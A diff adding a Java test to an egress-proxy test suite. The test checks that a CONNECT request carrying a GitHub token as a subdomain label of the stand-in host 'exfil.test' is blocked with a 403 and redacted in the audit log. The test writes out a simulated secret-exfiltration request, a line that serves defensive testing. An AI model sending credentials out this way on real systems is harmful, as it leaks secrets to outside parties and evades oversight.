@@ -482,6 +482,21 @@ class EgressProxyTest {
         }
 
         @Test
+        void secretAsWildcardLabelIsBlockedAndRedacted() throws Exception {
+            ProxyFixture f = start(b -> b.allow(new AllowRule("*.exfil.test", List.of(), true))
+                    .resolve(GITHUB_TOKEN.toLowerCase() + ".exfil.test", List.of(InetAddress.getLoopbackAddress())));
+            String response;
+            try (RawClient raw = new RawClient(f.proxyPort())) {
+                raw.send("CONNECT " + GITHUB_TOKEN + ".exfil.test:443 HTTP/1.1\r\n\r\n");
+                response = raw.readAll();
+            }
+
+            assertThat(response).startsWith("HTTP/1.1 403").doesNotContainIgnoringCase(GITHUB_TOKEN);
+            AuditRecord record = f.awaitAudit(r -> r.rule() != null && r.rule().startsWith("dlp:"));
+            assertThat(record.host()).isEqualTo("[redacted]");
+        }
+
+        @Test
         void secretInHeaderIsBlocked() throws Exception {
             ProxyFixture f = start();
 
